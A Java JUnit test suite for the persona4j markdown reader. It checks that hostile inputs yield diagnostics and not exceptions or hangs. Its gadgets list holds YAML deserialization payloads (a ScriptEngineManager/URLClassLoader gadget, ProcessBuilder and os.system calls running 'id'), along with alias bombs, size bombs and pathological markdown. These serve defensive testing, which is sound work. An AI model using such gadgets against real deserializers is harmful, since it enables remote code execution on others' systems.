package org.persona4j.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.persona4j.Diagnostic;
import org.persona4j.DiagnosticCodes;
import org.persona4j.Persona;
import org.persona4j.Personas;
import org.persona4j.ReadOptions;
import org.persona4j.ReadResult;
import org.persona4j.Severity;

/**
 * One test per reading threat of docs/SECURITY.md, and the commonmark and cmark pathological inputs scaled to the size
 * cap. Runs in its own Surefire execution with a 256 KiB thread stack, so recursion shows as a failure here.
 * Every input must be read or rejected with a diagnostic: never an exception, a hang or a StackOverflowError.
 */
@Tag("adversarial")
@Timeout(value = 120, unit = TimeUnit.SECONDS) // a hang fails the test rather than the build
class AdversarialReadingTest {

    private static final int MIB = 1 << 20;
    private static final Set<String> BODY_REJECTIONS =
            Set.of(DiagnosticCodes.WORK_BUDGET.code(), DiagnosticCodes.MARKDOWN_TOO_DEEP.code());

    /** Set by {@link Canary}'s static initialiser: proof that a class named in a tag was loaded. */
    static volatile boolean canaryLoaded;

    /** A class a YAML gadget names; loading it would flip {@link #canaryLoaded}. */
    public static final class Canary {
        static {
            canaryLoaded = true;
        }
    }

    static Stream<String> gadgets() {
        String canary = Canary.class.getName();
        return Stream.of(
                "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://h/\"]]]]",
                "x: !!" + canary + " {}",
                "x: !<tag:yaml.org,2002:" + canary + "> {}",
                "x: !!java.lang.ProcessBuilder [[\"id\"]]",
                "x: !!binary aGVsbG8=",
                "x: !foo bar",
                "x: !!str 1",
                "x: !!set {a, b}",
                "!!str key: value",
                "x:\n  - !!map {a: 1}",
                "x: !!python/object/apply:os.system [\"id\"]",
                "%TAG !e! tag:example.com,2000:\nx: !e!" + canary + " {}",
                "x: ! plain");
    }

    @ParameterizedTest
    @MethodSource("gadgets")
    void yamlTypeGadgetsAreRejectedAndNoClassIsLoaded(String yaml) {
        ReadResult r = Personas.parse("---\n" + yaml + "\n---\n# Body\n", "gadget.md");
        assertTrue(r.hasErrors(), () -> "accepted: " + yaml);
        assertTrue(
                r.diagnostics().stream()
                        .anyMatch(d -> d.code().equals(DiagnosticCodes.YAML_TAG.code())
                                || d.code().equals(DiagnosticCodes.FRONT_MATTER_SYNTAX.code())),
                r.diagnostics()::toString);
        assertTrue(r.expectPersona().metadata().isEmpty());
        assertFalse(canaryLoaded, "a class named in a YAML tag was loaded");
    }

    @Test
    void yamlAliasBombsAreRejectedAtTheFirstAnchor() {
        StringBuilder yaml =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char prev = (char) (c - 1);
            yaml.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, "*" + prev)))
                    .append("]\n");
        }
        ReadResult r = Personas.parse("---\n" + yaml + "---\n", "bomb.md");
        Diagnostic d = r.diagnostics(DiagnosticCodes.YAML_ALIAS.code()).get(0);
        assertEquals(2, d.line());
        assertEquals(1, r.diagnostics().size());
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{", "- ", "{a: ", "[{", "- - ", "a:\n  "})
    void deepNestingIsRejectedWithoutStackOverflow(String unit) {
        String yaml = unit.startsWith("-")
                ? "x:\n  " + unit.repeat(MIB / unit.length())
                : unit.contains("\n") ? "x:\n" + deepMapping(MIB) : "x: " + unit.repeat(MIB / unit.length());
        ReadOptions roomy = ReadOptions.builder()
                .maxFileBytes(4L * MIB)
                .maxFrontMatterBytes(4 * MIB)
                .build();
        ReadResult r = Personas.parse("---\n" + yaml + "\n---\n", "deep.md", roomy);
        assertEquals(List.of(DiagnosticCodes.YAML_TOO_DEEP.code()), codes(r), r.diagnostics()::toString);
        ReadOptions defaultFrontMatterCap =
                ReadOptions.builder().maxFileBytes(4L * MIB).build();
        ReadResult capped = Personas.parse("---\n" + yaml + "\n---\n", "deep.md", defaultFrontMatterCap);
        assertEquals(List.of(DiagnosticCodes.FRONT_MATTER_TOO_LARGE.code()), codes(capped));
        assertEquals(
                List.of(DiagnosticCodes.FILE_TOO_LARGE.code()),
                codes(Personas.parse("---\n" + yaml + "\n---\n", "deep.md")));
    }

    /** Block mappings nested by indentation, to about {@code size} characters. */
    private static String deepMapping(int size) {
        StringBuilder out = new StringBuilder();
        for (int depth = 1; out.length() < size; depth++) {
            out.append("  ".repeat(depth)).append("a:\n");
        }
        return out.toString();
    }

    @Test
    void nestingAtTheLimitIsStillRead() {
        String yaml = "x: " + "[".repeat(19) + "]".repeat(19);
        assertFalse(Personas.parse("---\n" + yaml + "\n---\n", "ok.md").hasErrors());
    }

    @Test
    void sizeBombsAreRejectedBeforeParsing(@TempDir Path dir) throws IOException {
        String bomb = "---\ndescription: " + "x".repeat(4 * MIB) + "\n---\n";
        assertEquals(List.of(DiagnosticCodes.FILE_TOO_LARGE.code()), codes(Personas.parse(bomb, "bomb.md")));
        Path file = dir.resolve("bomb.md");
        Files.writeString(file, bomb);
        ReadResult fromFile = Personas.read(file);
        assertEquals(List.of(DiagnosticCodes.FILE_TOO_LARGE.code()), codes(fromFile));
        assertTrue(fromFile.findPersona().isEmpty());
        String bigFrontMatter = "---\ndescription: " + "x".repeat(100_000) + "\n---\n# Body\n";
        ReadResult r = Personas.parse(bigFrontMatter, "fm.md");
        assertEquals(List.of(DiagnosticCodes.FRONT_MATTER_TOO_LARGE.code()), codes(r));
        assertEquals("Body", r.expectPersona().body().title());
    }

    @Test
    void duplicateKeysAndTypeConfusionGiveTheSamePersonaWithDiagnostics() {
        Persona quoted = Personas.parse("---\ntitle: T\nversion: '1.0'\nenabled: 'no'\ncode: '012'\n---\n", "a.md")
                .expectPersona();
        ReadResult plain =
                Personas.parse("---\ntitle: T\nversion: 1.0\nenabled: no\ncode: 012\ntitle: U\n---\n", "a.md");
        assertEquals(quoted.metadata().extra(), plain.expectPersona().metadata().extra());
        assertEquals(
                quoted.metadata().version(), plain.expectPersona().metadata().version());
        assertEquals(
                List.of(
                        DiagnosticCodes.DUPLICATE_KEY.code(),
                        DiagnosticCodes.AMBIGUOUS_SCALAR.code(),
                        DiagnosticCodes.AMBIGUOUS_SCALAR.code(),
                        DiagnosticCodes.AMBIGUOUS_SCALAR.code()),
                codes(plain));
    }

    @Test
    void backslashesAfterABracketExhaustTheBudgetInsteadOfRunningForSeconds() {
        ReadResult r = Personas.parse("[" + "\\".repeat(40), "slow.md");
        assertEquals(
                List.of(DiagnosticCodes.FRONT_MATTER_MISSING.code(), DiagnosticCodes.WORK_BUDGET.code()), codes(r));
        assertEquals(
                Severity.ERROR,
                r.diagnostics(DiagnosticCodes.WORK_BUDGET.code()).get(0).severity());
        assertEquals("[" + "\\".repeat(40), r.expectPersona().body().preamble());
    }

    /** The pathological inputs of commonmark-java's and cmark's suites, and flexmark's own, scaled to ~1 MiB. */
    static Stream<Arguments> pathologicalBodies() {
        return Stream.of(
                of("nested strong emphasis", repeatTo("*a **a ", MIB / 2) + "b" + repeatTo(" a** a*", MIB / 2)),
                of("emphasis closers without openers", repeatTo("a_ ", MIB)),
                of("emphasis openers without closers", repeatTo("_a ", MIB)),
                of("link closers without openers", repeatTo("a]", MIB)),
                of("link openers without closers", repeatTo("[a", MIB)),
                of("mismatched openers and closers", repeatTo("*a_ ", MIB)),
                of("openers and closers multiple of 3", "a**b" + repeatTo("c* ", MIB)),
                of("link openers and emphasis closers", repeatTo("[ a_", MIB)),
                of("pattern [ (]( repeated", repeatTo("[ (](", MIB)),
                of("pattern ![[]() repeated", repeatTo("![[]()", MIB)),
                of("nested brackets", "[".repeat(MIB / 2 - 1) + "a" + "]".repeat(MIB / 2 - 1)),
                of("nested block quotes", repeatTo("> ", MIB) + "a"),
                of(
                        "deeply nested lists",
                        IntStream.range(0, 700)
                                .mapToObj(i -> "  ".repeat(i) + "* a\n")
                                .collect(Collectors.joining())),
                of("NUL characters", repeatTo("abc\u0000de\u0000", MIB)),
                of(
                        "backtick runs",
                        IntStream.range(1, 1400)
                                .mapToObj(i -> "e" + "`".repeat(i))
                                .collect(Collectors.joining())),
                of("unclosed links with angle brackets", repeatTo("[a](<b", MIB)),
                of("unclosed links", repeatTo("[a](b", MIB)),
                of("unclosed HTML comments", "</" + repeatTo("<!--", MIB)),
                of("unclosed processing instructions", repeatTo("<?", MIB)),
                of("unclosed declarations", repeatTo("<!A ", MIB)),
                of("unclosed CDATA", repeatTo("<![CDATA[", MIB)),
                of("many link reference definitions", repeatTo("[a]: u\n", MIB)),
                of("many link references", repeatTo("[a] ", MIB / 2) + "\n\n[a]: u\n"),
                of("one-line paragraph lines", repeatTo("a\n", MIB)),
                of("lazy block quote lines", repeatTo("> a\n", MIB)),
                of("bracket and backslashes", "[" + "\\".repeat(MIB - 1)),
                of("empty links", repeatTo("[](", MIB)),
                of("emphasis mix", repeatTo("a**b c* ", MIB)),
                of("stars and underscores", repeatTo("*a_ ", MIB)),
                of("list markers on one line", repeatTo("- ", MIB)),
                of("star runs", "*".repeat(MIB)),
                of("entity starts", repeatTo("&#", MIB)),
                of("autolink starts", repeatTo("<a:", MIB)),
                of("heading runs", repeatTo("## a\n", MIB)),
                of("fence runs", repeatTo("```\n", MIB)),
                of("setext underline runs", repeatTo("a\n=\n", MIB)),
                of("table-like pipes", repeatTo("|a", MIB)),
                of("unclosed fences in list items", repeatTo("- ```\n", MIB)),
                of("unclosed fences in block quotes", repeatTo("> ```\n\n", MIB)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("pathologicalBodies")
    void superLinearMarkdownIsReadOrRejectedWithADiagnostic(String name, String body) {
        ReadResult r = Personas.parse(body, "pathological.md");
        if (r.persona() == null) { // NUL bytes: binary, refused before any parser runs
            assertEquals(List.of(DiagnosticCodes.FILE_BINARY.code()), codes(r));
            return;
        }
        Persona p = r.persona();
        for (Diagnostic d : r.diagnostics()) {
            if (d.isError()) {
                assertTrue(BODY_REJECTIONS.contains(d.code()), d::toString);
            }
        }
        assertTrue(Personas.write(p, "json").contains("\"sections\""), "the persona it read can be written");
    }

    @Test
    void anOrdinaryPersonaUsesLessThanATenthOfTheDefaultBudget() {
        ReadOptions tight =
                ReadOptions.builder().workPerChar(5).workAllowance(100_000).build();
        for (String fixture :
                List.of("reference-layout.md", "technical-layout.md", "overview-layout.md", "claude-subagent.md")) {
            ReadResult r = Personas.parse(readFixture(fixture), fixture, tight);
            assertTrue(r.diagnostics(DiagnosticCodes.WORK_BUDGET.code()).isEmpty(), fixture);
        }
        for (long seed = 0; seed < 50; seed++) {
            String text = new PersonaGenerator(seed).persona();
            assertTrue(
                    Personas.parse(text, "gen.md", tight)
                            .diagnostics(DiagnosticCodes.WORK_BUDGET.code())
                            .isEmpty(),
                    "seed " + seed);
        }
    }

    @Test
    void specialFilesAreRefusedWithoutBlocking(@TempDir Path dir) throws Exception {
        assertThrows(IOException.class, () -> Personas.read(dir));
        Path fifo = dir.resolve("pipe.md");
        Process mkfifo;
        try {
            mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
        } catch (IOException noMkfifo) {
            org.junit.jupiter.api.Assumptions.abort("not a POSIX system, so no pipe to test with: " + noMkfifo);
            return;
        }
        org.junit.jupiter.api.Assumptions.assumeTrue(mkfifo.waitFor() == 0, "mkfifo could not make a pipe here");
        IOException e = assertThrows(IOException.class, () -> Personas.read(fifo));
        assertTrue(e.getMessage().contains("not a regular file"), e.getMessage());
    }

    private static String readFixture(String name) {
        try {
            return Files.readString(Fixtures.path(name));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static Arguments of(String name, String body) {
        return Arguments.of(name, body);
    }

    /** {@code unit} repeated to just under {@code bytes} characters. */
    private static String repeatTo(String unit, int bytes) {
        return unit.repeat(Math.max(1, (bytes - 16) / unit.length()));
    }

    private static List<String> codes(ReadResult r) {
        return r.diagnostics().stream().map(Diagnostic::code).toList();
    }
}
